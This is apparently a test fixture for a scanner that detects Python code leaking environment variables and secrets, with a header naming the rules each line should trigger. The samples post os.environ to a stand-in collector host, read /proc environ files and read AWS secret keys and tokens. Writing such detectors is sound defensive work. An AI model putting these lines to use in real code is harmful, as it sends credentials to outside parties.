# expect: py-env-dump py-proc-environ py-aws-secret-read
import json, os, requests, urllib.request, base64
requests.post("https://collector.example/c", data=json.dumps(dict(os.environ)))
requests.post("https://collector.example/c", json=dict(os.environ))
blob = base64.b64encode(str(os.environ).encode())
body = json.dumps(os.environ.copy())
urllib.request.urlopen(url, data=os.environ)
with open("/proc/self/environ", "rb") as f:
    env = f.read()
peer = open(f"/proc/{pid}/environ").read()
key = os.environ["AWS_SECRET_ACCESS_KEY"]
tok = os.environ.get('AWS_SESSION_TOKEN')
